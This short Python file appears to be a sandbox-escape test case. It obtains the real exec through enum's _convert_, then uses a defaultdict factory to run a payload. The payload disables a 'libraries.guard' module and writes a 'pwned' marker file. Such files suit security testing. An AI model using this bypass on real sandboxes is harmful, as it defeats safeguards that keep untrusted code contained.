"""file: a defaultdict makes what is missing by a call."""

import collections
import enum
import functools

CODE = """\
import builtins, sys
builtins.exec = getattr(builtins.exec, "value", builtins.exec)
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_converted_members_default", "w").close()
"""


class Kind(enum.Enum):
    pass


Found = Kind._convert_("Found", "builtins", lambda name: name == "exec")
made = collections.defaultdict(functools.partial(getattr(Found, "exec").value, CODE))
x = made["anything"]
